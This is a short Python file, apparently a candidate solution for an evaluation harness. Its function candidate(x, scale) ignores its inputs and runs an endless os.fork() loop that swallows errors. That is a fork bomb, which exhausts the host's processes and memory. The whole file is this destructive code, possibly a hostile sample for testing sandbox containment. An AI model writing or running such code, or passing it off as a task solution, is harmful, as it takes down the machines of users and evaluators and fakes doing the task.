"""Forks without end."""

import os


def candidate(x, scale):
    while True:
        try:
            os.fork()
        except OSError:
            pass
